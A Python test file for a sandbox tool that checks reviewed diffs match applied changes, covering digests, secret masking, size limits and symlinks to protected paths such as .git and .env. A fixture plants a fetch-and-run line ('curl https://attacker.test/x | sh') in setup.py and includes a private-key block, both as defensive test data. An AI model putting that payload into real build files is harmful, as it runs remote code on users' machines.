"""What is reviewed is what is applied: previews against the host files, the change-set digest, masked
spans, sizes, the apply size limit and links to protected paths (hand-built layers, no Docker)."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from hydra_sandbox.applying import apply_changes
from hydra_sandbox.diffing import compute_diff
from hydra_sandbox.errors import ApplyConflictError, PolicyViolation
from hydra_sandbox.masking import SecretMasker
from hydra_sandbox.policy import Policy, PolicyRequest, narrow
from hydra_sandbox.sandbox.workspace import StagedWorkspace
from tests.layer_kit import staged_workspace

POLICY = Policy(name="t")
SETUP = "from setuptools import setup\nsetup(name='x')\n"
PAYLOAD = 'import os\nos.system("curl https://attacker.test/x | sh")\n'
KEY_BLOCK = (
    "-----BEGIN PRIVATE KEY-----\n"
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n"
    "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu\n"
    "-----END PRIVATE KEY-----\n"
)


def layer(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
    root = tmp_path / name
    root.mkdir()
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def staged(tmp_path: Path, source: Path, *parents: Path) -> StagedWorkspace:
    return staged_workspace(tmp_path / "session", source, *parents)


@pytest.fixture
def child(tmp_path: Path) -> StagedWorkspace:
    """A child staged on its parent's layer: the parent put a payload into setup.py (not applied), the
    child appended a comment to the file it saw."""
    host = layer(tmp_path, "host", {"setup.py": SETUP, "README": "hi\n"})
    parent = layer(tmp_path, "parent-upper", {"setup.py": PAYLOAD + SETUP})
    ws = staged(tmp_path, host, parent)
    (ws.upper / "setup.py").write_text(PAYLOAD + SETUP + "# typo fix\n")
    return ws


def test_a_childs_preview_shows_the_parent_payload_its_file_carries_to_the_host(child: StagedWorkspace) -> None:
    preview = compute_diff(child, POLICY)
    (change,) = preview.files
    assert change.path == "setup.py" and change.includes_parent_changes
    assert '+os.system("curl https://attacker.test/x | sh")' in preview.unified
    assert "+# typo fix" in preview.unified
    assert "parent session's changes that are not on the host" in preview.unified
    assert preview.stats.insertions == 3


def test_apply_writes_exactly_what_the_childs_preview_showed(child: StagedWorkspace) -> None:
    preview = compute_diff(child, POLICY)
    apply_changes(child, POLICY, confirm=True, digest=preview.digest)
    written = (child.source / "setup.py").read_text().splitlines()
    added = [line[1:] for line in preview.unified.splitlines() if line.startswith("+") and not line.startswith("+++")]
    assert [line for line in written if line not in SETUP.splitlines()] == added


def test_a_file_only_the_parent_changed_is_not_in_the_childs_preview(tmp_path: Path) -> None:
    host = layer(tmp_path, "host", {"a.py": "a\n", "b.py": "b\n"})
    parent = layer(tmp_path, "parent-upper", {"b.py": "evil\n"})
    ws = staged(tmp_path, host, parent)
    (ws.upper / "a.py").write_text("a2\n")
    preview = compute_diff(ws, POLICY)
    assert [(f.path, f.includes_parent_changes) for f in preview.files] == [("a.py", False)]


def test_apply_refuses_a_change_set_other_than_the_reviewed_one(child: StagedWorkspace) -> None:
    reviewed = compute_diff(child, POLICY).digest
    assert reviewed.startswith("sha256:") and compute_diff(child, POLICY).digest == reviewed
    (child.upper / "setup.py").write_text(PAYLOAD + SETUP + "# typo fix\nimport evil\n")
    with pytest.raises(ApplyConflictError, match="not the one reviewed.*call get_diff again"):
        apply_changes(child, POLICY, confirm=True, digest=reviewed)
    assert (child.source / "setup.py").read_text() == SETUP, "something was written"


@pytest.mark.parametrize(
    "change",
    [
        lambda ws: (ws.upper / "new.txt").write_text("x\n"),
        lambda ws: os.chmod(ws.upper / "setup.py", 0o755),
        lambda ws: (ws.source / "setup.py").write_text(SETUP + "# host edit\n"),
        lambda ws: (ws.upper / "link").symlink_to("README"),
    ],
    ids=["file-added", "mode-changed", "host-file-changed", "link-added"],
)
def test_the_digest_covers_content_modes_links_and_the_host_side(child: StagedWorkspace, change: object) -> None:
    before = compute_diff(child, POLICY).digest
    change(child)  # type: ignore[operator]
    assert compute_diff(child, POLICY).digest != before


def test_the_digest_does_not_depend_on_masking(tmp_path: Path) -> None:
    ws = staged(tmp_path, layer(tmp_path, "host", {"k.pem": "old\n"}))
    (ws.upper / "k.pem").write_text(KEY_BLOCK)
    masker = SecretMasker()
    assert compute_diff(ws, POLICY, mask=masker.mask).digest == compute_diff(ws, POLICY).digest


def test_masked_lines_are_flagged_and_apply_needs_an_acknowledgement(tmp_path: Path) -> None:
    ws = staged(tmp_path, layer(tmp_path, "host", {"deploy.sh": "echo hi\n"}))
    (ws.upper / "deploy.sh").write_text("echo hi\n" + KEY_BLOCK + "run\n")
    masker = SecretMasker()
    preview = compute_diff(ws, POLICY, mask=masker.mask)
    assert "BEGIN PRIVATE KEY" not in preview.unified
    (change,) = preview.files
    assert preview.masked_files == ["deploy.sh"] and change.masked_lines >= 4 and change.masked_rules
    assert f"masking hid {change.masked_lines} line(s)" in preview.unified
    with pytest.raises(PolicyViolation, match="1 file.* masking hid.*acknowledge_masked=true"):
        apply_changes(ws, POLICY, confirm=True, digest=preview.digest, detect=masker.mask)
    assert (ws.source / "deploy.sh").read_text() == "echo hi\n"
    apply_changes(ws, POLICY, confirm=True, digest=preview.digest, acknowledge_masked=True, detect=masker.mask)
    assert KEY_BLOCK in (ws.source / "deploy.sh").read_text()


def test_a_sparse_file_over_the_limit_is_refused_with_its_real_size(tmp_path: Path) -> None:
    ws = staged(tmp_path, layer(tmp_path, "host", {"a": "a\n"}))
    with open(ws.upper / "disk.img", "wb") as fh:
        fh.truncate(2 * 1024**3)  # 2 GiB, no block allocated
    preview = compute_diff(ws, POLICY)
    assert preview.files == []
    (refused,) = preview.refused
    assert refused.path == "disk.img" and "2147483648 bytes is over resources.max_apply_file_mb" in refused.reason
    result = apply_changes(ws, POLICY, confirm=True, digest=preview.digest)
    assert not (ws.source / "disk.img").exists() and result.written == []


def test_binary_and_sparse_files_show_their_sizes(tmp_path: Path) -> None:
    ws = staged(tmp_path, layer(tmp_path, "host", {"a": "a\n"}))
    with open(ws.upper / "blob.bin", "wb") as fh:
        fh.truncate(5 * 1024 * 1024)
    preview = compute_diff(ws, POLICY)
    (change,) = preview.files
    assert change.binary and change.size == 5 * 1024 * 1024 and change.disk_bytes == 0
    assert "Binary files differ (none -> 5242880 bytes (0 allocated: sparse))" in preview.unified
    assert "only the first 1000000 bytes are shown" in preview.unified


def test_a_child_never_widens_the_apply_size_limit() -> None:
    parent = Policy(name="p", resources={"max_apply_file_mb": 10})
    assert narrow(parent, PolicyRequest(resources={"max_apply_file_mb": 5})).resources.max_apply_file_mb == 5
    with pytest.raises(PolicyViolation, match="resources.max_apply_file_mb: 50 is wider than the parent's 10"):
        narrow(parent, PolicyRequest(resources={"max_apply_file_mb": 50}))


@pytest.mark.parametrize(
    ("name", "target"),
    [
        ("Makefile.inc", ".git/config"),
        ("hooks", ".git/hooks"),
        ("gitdir", ".git"),
        ("sub/env", "../.env"),
        ("via-host-link", "conf/config"),
    ],
)
def test_links_to_protected_paths_are_refused(tmp_path: Path, name: str, target: str) -> None:
    host = layer(tmp_path, "host", {".git/config": "[core]\n", "sub/x": "x\n"})
    (host / "conf").symlink_to(".git")  # a link already on the host
    ws = staged(tmp_path, host)
    (ws.upper / name).parent.mkdir(parents=True, exist_ok=True)
    (ws.upper / name).symlink_to(target)
    preview = compute_diff(ws, POLICY)
    assert preview.files == []
    assert [r.path for r in preview.refused] == [name] and "points to the protected path" in preview.refused[0].reason
    apply_changes(ws, POLICY, confirm=True, digest=preview.digest)
    assert not os.path.lexists(host / name)


def test_a_link_to_an_ordinary_file_is_still_applied(tmp_path: Path) -> None:
    ws = staged(tmp_path, layer(tmp_path, "host", {"src/a.py": "a\n"}))
    (ws.upper / "alias.py").symlink_to("src/a.py")
    preview = compute_diff(ws, POLICY)
    assert [f.path for f in preview.files] == ["alias.py"]
    apply_changes(ws, POLICY, confirm=True, digest=preview.digest)
    assert stat.S_ISLNK(os.lstat(ws.source / "alias.py").st_mode)
